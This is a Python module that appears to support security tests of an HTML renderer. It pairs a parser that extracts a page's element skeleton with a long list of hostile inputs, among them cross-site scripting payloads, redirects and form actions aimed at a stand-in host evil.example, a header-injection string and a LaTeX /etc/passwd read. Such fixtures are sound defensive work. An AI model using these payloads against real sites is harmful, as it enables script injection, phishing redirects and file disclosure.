"""Texts that try to be more than text, and the skeleton of a page: its elements and attributes without what they say."""

from __future__ import annotations

from html.parser import HTMLParser

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></code></div></section></main><h1>owned</h1>",
    "</svg></figure><iframe src=javascript:alert(1)></iframe>",
    "</text><foreignObject><body onload=alert(1)>",
    "</desc></title><use href='data:image/svg+xml,x'/>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '"><script>alert(1)</script>',
    '" style="position:fixed;inset:0" x="',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=https://evil.example>click</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><input name=x></form>",
    "<object data=x></object><embed src=x>",
    "<!-- comment --><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#x3c;/script>",
    "&amp;amp;&nosuch;&#0;&#xD800;",
    "${alert(1)} #{7*7} {{7*7}} {% raw %} <%= 7*7 %>",
    "`backticks` and ```fences```",
    "\u202eright to left override\u202c \u2066isolate\u2069",
    "zero\u200bwidth \ufeffbom soft\u00adhyphen \u2028 line \u2029 paragraph",
    "nul \x00 escape \x1b[31m bell \x07 delete \x7f csi \x9b31m",
    "lone \ud800 and \udfff surrogates",
    "tags \U000e0001\U000e0041 noncharacters \ufffe\uffff\ufdd0",
    "\uff1cscript\uff1e alert(1) \uff1c/script\uff1e",
    "e\u0301" + "\u0301" * 400,
    "w" * 5000,
    "\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
    "$\\href{javascript:alert(1)}{x}$ \\input{/etc/passwd}",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "family \U0001f468\u200d\U0001f469\u200d\U0001f467 and \u0646\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
)
ALLOWED_ELEMENTS = """
    html head meta title style body header nav main section footer article figure figcaption h1 h2 h3 h4 p ol li dl dt dd div span
    small strong code pre table thead tbody tr th td details summary data a svg desc g path line circle text tspan
"""
ALLOWED_ATTRIBUTES = """
    lang charset http-equiv name content class id dir href role scope value tabindex aria-label aria-labelledby aria-hidden
    viewbox d x y x1 y1 x2 y2 cx cy r dy text-anchor
"""
ELEMENTS, ATTRIBUTES = set(ALLOWED_ELEMENTS.split()), set(ALLOWED_ATTRIBUTES.split())


class Skeleton(HTMLParser):
    """Elements and attribute names in order; texts apart. Comments, declarations and instructions count as elements of their own."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.nodes: list[tuple[str, tuple[str, ...]]] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.texts: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.nodes.append((tag, tuple(name for name, _ in attrs)))
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_endtag(self, tag: str) -> None:
        self.nodes.append((f"/{tag}", ()))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.nodes.append(("comment", ()))

    def handle_pi(self, data: str) -> None:
        self.nodes.append(("instruction", ()))

    def handle_decl(self, decl: str) -> None:
        self.nodes.append((f"declaration {decl}", ()))

    def unknown_decl(self, data: str) -> None:
        self.nodes.append(("unknown declaration", ()))

    @property
    def text(self) -> str:
        """All text of the page."""
        return "".join(self.texts)
